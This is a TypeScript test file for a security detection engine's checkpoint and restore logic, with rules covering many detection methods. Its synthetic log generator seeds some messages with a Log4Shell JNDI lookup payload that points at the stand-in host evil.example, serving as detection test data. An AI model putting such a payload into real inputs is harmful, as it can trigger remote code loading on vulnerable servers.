import { hash } from "node:crypto";
import { crc32 } from "node:zlib";
import { beforeAll, describe, expect, test } from "vitest";
import { SECTION_CONTENT, readState, sectionName, writeState } from "../../host/detect/state/format.ts";
import { type Engine, type EngineOptions, createEngine } from "../../host/index.ts";
import { ProblemError } from "../../host/problem.ts";
import { readSuppressions } from "../../host/rule/guards.ts";
import { bytesOf, shown } from "../detect/scenarios.ts";
import { Generator } from "../match/generate.ts";
import { loadKernel } from "../support/wasm.ts";

beforeAll(() => {
  loadKernel("simd");
});

const common = { type: "log_detection", isEnabled: true, tags: [] };
const lives = { keepAlive: 900, maxSignalDuration: 3600 };

function rule(id: string, options: Record<string, unknown>, query: Record<string, unknown>, condition?: string): Record<string, unknown> {
  return {
    ...common, id, name: id, message: `{{@usr.id}} ${id} {{events_matched}}`, options: { ...lives, ...options },
    queries: [{ name: "a", aggregation: "count", groupByFields: ["@usr.id"], distinctFields: [], ...query }],
    cases: [{ name: "", status: "medium", notifications: [], ...(condition === undefined ? {} : { condition }) }],
  };
}

/** One of every method, so that a new one is missed here. */
const rules: Array<Record<string, unknown>> = [
  rule("burst", { detectionMethod: "threshold", evaluationWindow: 300 }, { query: "@action:login" }, "a > 2"),
  rule("at once", { detectionMethod: "threshold", evaluationWindow: 0, keepAlive: 0 }, { query: "@action:delete" }, "a > 0"),
  rule("spread", { detectionMethod: "threshold", evaluationWindow: 600 }, { query: "*", aggregation: "cardinality", groupByFields: ["host"], distinctFields: ["@usr.id"] }, "a > 3"),
  rule("country", { detectionMethod: "new_value", newValueOptions: { learningMethod: "duration", learningDuration: 1, learningThreshold: 0, forgetAfter: 7 } }, { query: "@action:login", aggregation: "new_value", metrics: ["@country"] }),
  rule("spike", { detectionMethod: "anomaly_detection", evaluationWindow: 900, anomalyDetectionOptions: { bucketDuration: 900, learningDuration: 12, detectionTolerance: 2 } }, { query: "*", groupByFields: ["host"] }, "a > 0.99"),
  rule("travel", { detectionMethod: "impossible_travel", impossibleTravelOptions: { baselineUserLocations: false } }, { query: "@action:login", aggregation: "geo_data", metrics: ["@network.client.geoip"] }),
  rule("odd", { detectionMethod: "content_anomaly", evaluationWindow: 600, contentAnomalyOptions: { learningDuration: 1, forgetAfter: 3, similarityPercentageThreshold: 70, nbSimilarItemsThreshold: 1 } }, { query: "@action:run", metrics: ["@cmd"] }, "a > 0"),
  {
    ...rule("steps", { detectionMethod: "sequence_detection", evaluationWindow: 0, sequenceDetectionOptions: { steps: [{ name: "in", condition: "a > 0", evaluationWindow: 300 }, { name: "out", condition: "b > 0", evaluationWindow: 300 }], stepTransitions: [{ parent: "in", child: "out", evaluationWindow: 900 }] } }, { query: "@action:login" }, "out > 0"),
    queries: ["login", "delete"].map((action, i) => ({ name: "ab"[i], query: `@action:${action}`, aggregation: "count", groupByFields: ["@usr.id"], distinctFields: [] })),
  },
  {
    ...common, id: "vendor", name: "vendor", message: "on {{@host.name}}", queries: [], cases: [], thirdPartyCases: [{ name: "High", query: "@action:delete", status: "high", notifications: [] }],
    options: { detectionMethod: "third_party", keepAlive: 0, maxSignalDuration: 86400, thirdPartyRuleOptions: { defaultStatus: "info", defaultNotifications: [], rootQueries: [{ query: "@action:(delete OR run)", groupByFields: ["@usr.id"] }] } },
  },
  { ...rule("jndi", { detectionMethod: "hardcoded", hardcodedEvaluatorType: "log4shell", evaluationWindow: 0 }, { query: "@action:run", aggregation: "none", groupByFields: ["host"] }) },
  {
    ...common, type: "signal_correlation", id: "both", name: "both", message: "both", options: { detectionMethod: "threshold", evaluationWindow: 1800, keepAlive: 3600, maxSignalDuration: 86400 },
    queries: ["burst", "at once"].map((ruleId, i) => ({ name: "ab"[i], ruleId, aggregation: "event_count", correlatedByFields: ["@usr.id"] })), cases: [{ name: "both", status: "high", condition: "a > 0 && b > 0", notifications: [] }],
  },
];

const options: EngineOptions = {
  rules, suppressions: readSuppressions([{ name: "quiet", enabled: true, rule_query: "*", suppression_query: "@usr.id:user-5 @country:DE" }]),
};

function eventsOf(seed: number, count: number): Array<Record<string, unknown>> {
  const random = new Generator(seed);
  let nowMs = 1_772_000_000_000;
  return Array.from({ length: count }, (_, i) => {
    // Once the first days are learned, a host grows loud.
    const isLoud = i % 1500 > 1350;
    nowMs += isLoud ? random.below(1500) : random.chance(0.7) ? random.below(20_000) : random.below(400_000);
    const action = random.pick(["login", "login", "run", "delete", "read"]);
    const [latitude, longitude] = random.pick([[52.5, 13.4], [35.7, 139.7], [40.7, -74]]);
    return {
      message: `${action} ${random.chance(0.01) ? "${jndi:ldap://evil.example/a}" : "fine"}`, host: `host-${isLoud ? 0 : random.below(3)}`, source: "app", tags: [`n:${i % 7}`],
      timestamp: nowMs - (random.chance(0.15) ? random.below(400_000) : 0),
      attributes: {
        action, usr: { id: `user-${random.below(6)}` }, country: random.chance(0.01) ? `X${i}` : random.pick(["DE", "FR", "JP", "US"]), n: i, cmd: Array.from({ length: 5 }, () => random.pick(["ls", "cat", "rm", "curl", "ps", "sh", "dd"])).join(" "),
        network: { client: { ip: `198.51.100.${random.below(9)}`, geoip: { city: { name: `${latitude}` }, country: { name: "there" }, location: { latitude, longitude } } } },
      },
    };
  });
}

/** Part of the stream, in two partitions as they fall. */
async function push(engine: Engine, events: ReadonlyArray<Record<string, unknown>>, from: number, to: number): Promise<void> {
  for (let at = from; at < to; ) {
    const end = Math.min(to, (Math.floor(at / 97) + 1) * 97);
    await engine.push(bytesOf(events.slice(at, end)), { format: "log", arrivalMs: 0, partition: Math.floor(at / 97) % 3 ? "one" : "two" });
    at = end;
  }
}

async function uncut(events: ReadonlyArray<Record<string, unknown>>): Promise<{ readonly signals: string[]; readonly stats: Record<string, unknown> }> {
  const engine = await createEngine(options);
  await push(engine, events, 0, events.length);
  const { stateBytes: _, ...stats } = await engine.close();
  return { signals: shown(engine.finalSignals()), stats };
}

async function stateAfter(events: ReadonlyArray<Record<string, unknown>>, more: Partial<EngineOptions> = {}): Promise<Uint8Array> {
  const engine = await createEngine({ ...options, ...more });
  await push(engine, events, 0, events.length);
  const state = await engine.checkpoint({ position: { here: 1 } });
  await engine.close({ goesOn: true });
  return state;
}

describe.each([0, 2])("random streams, %i workers", (workers) => {
  test.each([1, 2, 3])("cut at random places give what the uncut one gives, byte for byte (%i)", async (seed) => {
    const events = eventsOf(seed, 3000);
    const expected = await uncut(events);
    const random = new Generator(seed * 100 + workers);
    const places = Array.from({ length: 5 }, () => random.below(events.length)).sort((a, b) => a - b);
    let engine = await createEngine({ ...options, workers });
    let at = 0;
    for (const place of places) {
      await push(engine, events, at, place);
      at = place;
      const state = await engine.checkpoint();
      await engine.close({ goesOn: true });
      engine = await createEngine({ ...options, workers, state });
      expect(engine.restored).toMatchObject({ events: place, dropped: [] });
    }
    await push(engine, events, at, events.length);
    const stats = await engine.close();
    expect(shown(engine.finalSignals())).toEqual(expected.signals);
    expect({ ...stats, stateBytes: 0, bytes: 0 }).toEqual({ ...expected.stats, stateBytes: 0, bytes: 0 });
    const told = new Set(engine.finalSignals().map((signal) => signal.ruleId));
    // Each method had something to remember.
    for (const { id } of rules) expect(told, `${id as string} of ${[...told].join()}`).toContain(id);
  }, 60_000);
});

test("what was taken up is saved as it was", async () => {
  const events = eventsOf(4, 500);
  const state = await stateAfter(events);
  const engine = await createEngine({ ...options, state });
  const again = await engine.checkpoint({ position: { here: 1 } });
  await engine.close({ goesOn: true });
  const bodies = (bytes: Uint8Array): unknown[] => readState(bytes).sections
    // Histories of contents are packed anew as they are read: the same sets, elsewhere.
    .map(({ kind, items, body }) => [sectionName(kind), items, kind === SECTION_CONTENT ? "" : hash("sha256", body)]);
  expect(bodies(again)).toEqual(bodies(state));
});

test("a rule that was edited begins anew, and so does what reads its signals; the others do not notice another name", async () => {
  const events = eventsOf(5, 2000);
  const half = events.slice(0, 1000);
  const state = await stateAfter(half);
  const changed = rules.map((each) => (each.id === "burst" ? rule("burst", { detectionMethod: "threshold", evaluationWindow: 300 }, { query: "@action:login" }, "a > 3") : { ...each, name: `${each.id as string}, renamed`, version: 2 }));
  const engine = await createEngine({ ...options, rules: changed, state });
  const { restored } = engine;
  expect(new Set(restored!.dropped.map(({ ruleId }) => ruleId))).toEqual(new Set(["burst", "both", "odd"])); // a content anomaly learns anew after any edit
  expect(restored!.dropped.every(({ reason }) => reason === "changed")).toBe(true);
  await push(engine, events, 1000, 2000);
  await engine.close();
  const whole = await createEngine(options);
  await push(whole, events, 0, 2000);
  await whole.close();
  const others = (signals: ReturnType<Engine["finalSignals"]>): unknown[] => signals.filter(({ ruleId }) => !["burst", "both", "odd"].includes(ruleId)).map(({ ruleId, group, firstSeenMs, lastSeenMs, eventsMatched, samplesText }) => [ruleId, group, firstSeenMs, lastSeenMs, eventsMatched, samplesText]);
  expect(others(engine.finalSignals())).toEqual(others(whole.finalSignals()));
  expect(others(engine.finalSignals()).length).toBeGreaterThan(100);
}, 60_000);

test("rules that are gone are told, and new ones begin with nothing", async () => {
  const state = await stateAfter(eventsOf(6, 300));
  const engine = await createEngine({ ...options, rules: [rules[1]!, rule("fresh", { detectionMethod: "threshold", evaluationWindow: 300 }, { query: "*" }, "a > 1")], state });
  expect(engine.restored!.taken).toBe(2 - 1);
  expect(engine.restored!.dropped.every(({ reason }) => reason === "gone")).toBe(true);
  expect(new Set(engine.restored!.dropped.map(({ ruleId }) => ruleId)).size).toBe(rules.length - 1);
  await engine.close();
});

test("another lateness means other windows: what does not fit is dropped with its reason", async () => {
  const state = await stateAfter(eventsOf(7, 300), { rules: [rule("wide", { detectionMethod: "threshold", evaluationWindow: 3600, keepAlive: 3600 }, { query: "*" }, "a > 2000")] });
  const engine = await createEngine({ ...options, rules: [rule("wide", { detectionMethod: "threshold", evaluationWindow: 3600, keepAlive: 3600 }, { query: "*" }, "a > 2000")], state, allowedLatenessSeconds: 2000 });
  expect(engine.restored!.dropped).toMatchObject([{ ruleId: "wide", kind: "windows", reason: "unfit" }]);
  await engine.close();
});

test("signals that were shown and are over are left out, those that may go on are not", async () => {
  const events = eventsOf(8, 1500);
  const engine = await createEngine(options);
  await push(engine, events, 0, 1500);
  const all = engine.finalSignals();
  const shownRevision = Math.max(...all.map(({ revision }) => revision));
  const state = await engine.checkpoint({ shownRevision });
  const resumed = await createEngine({ ...options, state });
  const kept = new Set(resumed.finalSignals().map(({ id }) => id));
  expect(kept.size).toBeGreaterThan(0);
  expect(kept.size).toBeLessThan(all.length / 2);
  for (const each of [engine, resumed]) {
    await push(each, eventsOf(9, 300), 0, 300);
    await each.close();
  }
  const later = (signals: ReturnType<Engine["finalSignals"]>): string[] => shown(signals.filter(({ revision }) => revision > shownRevision));
  expect(later(resumed.finalSignals())).toEqual(later(engine.finalSignals()));
});

describe("what is no whole state", () => {
  const events = eventsOf(10, 400);

  test("a byte changed anywhere, or an end too early, is refused", async () => {
    const state = await stateAfter(events);
    const random = new Generator(1);
    const places = [...Array.from({ length: 120 }, (_, i) => i), ...Array.from({ length: 300 }, () => random.below(state.length))];
    for (const at of places) {
      const damaged = Uint8Array.from(state);
      damaged[at]! ^= 1 << random.below(8);
      expect(() => readState(damaged), `byte ${at}`).toThrow(ProblemError);
    }
    for (let i = 0; i < 200; i++) expect(() => readState(state.subarray(0, random.below(state.length)))).toThrow(ProblemError);
    expect(() => readState(Buffer.concat([state, Buffer.alloc(8)]))).toThrow(ProblemError);
    await expect(createEngine({ ...options, state: state.subarray(0, state.length - 8) })).rejects.toMatchObject({ problems: [{ code: "state/cut-short" }] });
  });

  test("another version is refused by its number", async () => {
    const state = Buffer.from(await stateAfter([]));
    state.writeUInt32LE(7, 8);
    state.writeUInt32LE(crc32(state.subarray(0, 36)), 36);
    expect(() => readState(state)).toThrow("version 7");
  });

  test("a body that says what cannot be, under sums that are right, is refused, dropped or survived", async () => {
    const { info, sections } = readState(await stateAfter(events));
    const random = new Generator(2);
    const outcomes = new Map<string, number>();
    for (let i = 0; i < 150; i++) {
      const number = random.below(sections.length);
      const body = Uint8Array.from(sections[number]!.body);
      for (let flips = 1 + random.below(3); flips > 0 && body.length; flips--) body[random.chance(0.5) ? random.below(Math.min(64, body.length)) : random.below(body.length)] = random.below(256);
      const state = writeState(info, sections.map((section, j) => (j === number ? { ...section, body: random.chance(0.2) ? body.subarray(0, random.below(body.length + 1)) : body } : section)));
      let outcome = "survived";
      try {
        const engine = await createEngine({ ...options, state });
        if (engine.restored!.dropped.length) outcome = "dropped";
        await push(engine, eventsOf(11, 60), 0, 60);
        await engine.close();
      } catch (error) {
        expect(error, `${sectionName(sections[number]!.kind)}: ${(error as Error).stack}`).toBeInstanceOf(ProblemError);
        outcome = "refused";
      }
      outcomes.set(outcome, (outcomes.get(outcome) ?? 0) + 1);
    }
    expect([...outcomes.keys()].sort()).toEqual(["dropped", "refused", "survived"]);
  }, 120_000);
});
